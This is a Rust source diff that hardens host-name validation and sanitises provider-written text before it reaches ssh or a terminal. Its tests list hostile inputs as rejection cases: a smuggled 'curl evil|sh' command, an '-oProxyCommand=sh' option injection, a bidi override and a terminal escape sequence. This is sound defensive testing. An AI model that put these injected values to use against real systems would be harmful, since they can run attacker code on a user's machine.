@@ -45,6 +45,26 @@ pub fn fingerprint(hash: &[u8; 32]) -> String {
 	out
 }
 
+/// The SHA-256 of an OpenSSH key line's key blob (`ssh-ed25519 AAAA… [comment]`): what a host key
+/// fingerprint hashes and what the worker attests. `None` unless the line is a key sshd accepts.
+pub fn key_line_hash(line: &str) -> Option<[u8; 32]> {
+	gpux_primitives::access::ssh_key_blob(line.trim().as_bytes())
+		.map(|blob| sp_crypto_hashing::sha2_256(&blob))
+}
+
+/// `text` (something a provider wrote: a location, a model name) with control characters
+/// replaced, so that printing it cannot drive the terminal (escape sequences).
+pub fn printable(text: &[u8]) -> String {
+	String::from_utf8_lossy(text)
+		.chars()
+		.map(|c| if c.is_control() || is_bidi_control(c) { '?' } else { c })
+		.collect()
+}
+
+fn is_bidi_control(c: char) -> bool {
+	matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
+}
+
 /// Whether `host` (what a provider's worker attested) is a plain DNS name or IP address, safe to
 /// hand to ssh or print in a command: the chain does not check it, and a host such as
 /// `-oProxyCommand=…` would be read as an option.
@@ -58,7 +78,24 @@ pub fn is_plain_host(host: &str) -> bool {
 			&& !l.starts_with('-')
 			&& !l.ends_with('-')
 	};
+	// A numeric last label is an IPv4 address, and only in its dotted-quad form: resolvers read
+	// `0`, `2130706433` or `0x7f.1` as addresses too.
+	let last = host.rsplit('.').next().unwrap_or_default();
+	let numeric = last.bytes().all(|b| b.is_ascii_digit())
+		|| last.get(..2).is_some_and(|p| p.eq_ignore_ascii_case("0x"));
+	if numeric {
+		return host.parse::<std::net::Ipv4Addr>().is_ok();
+	}
 	host.len() <= 253 && host.split('.').all(label)
+}
+
+/// `host` as a URL's host: an IPv6 address in brackets.
+pub fn url_host(host: &str) -> String {
+	if host.contains(':') {
+		format!("[{host}]")
+	} else {
+		host.to_string()
+	}
 }
 
 #[cfg(test)]
@@ -82,11 +119,31 @@ mod tests {
 		for ok in ["127.0.0.1", "gpu-1.example.net", "localhost", "::1", "2001:db8::7"] {
 			assert!(is_plain_host(ok), "{ok}");
 		}
-		for bad in
-			["x; curl evil|sh #", "-oProxyCommand=sh", "a b", "", "a..b", "-host", "host\u{202e}"]
-		{
+		for bad in [
+			"x; curl evil|sh #",
+			"-oProxyCommand=sh",
+			"a b",
+			"",
+			"a..b",
+			"-host",
+			"host\u{202e}",
+			"0",
+			"2130706433",
+			"0x7f.1",
+			"127.1",
+			"1.2.3.4.5",
+			"256.1.1.1",
+		] {
 			assert!(!is_plain_host(bad), "{bad}");
 		}
+	}
+
+	#[test]
+	fn provider_text_cannot_drive_the_terminal() {
+		assert_eq!(printable(b"Frankfurt \x1b]52;c;bad\x07"), "Frankfurt ?]52;c;bad?");
+		assert_eq!(printable("a\u{202e}b".as_bytes()), "a?b");
+		assert_eq!(url_host("::1"), "[::1]");
+		assert_eq!(url_host("gpu.example"), "gpu.example");
 	}
 
 	#[test]
